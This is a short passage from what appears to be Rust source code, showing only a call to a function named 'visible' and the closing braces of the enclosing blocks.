            let _ = visible(s);
        }
    }
}
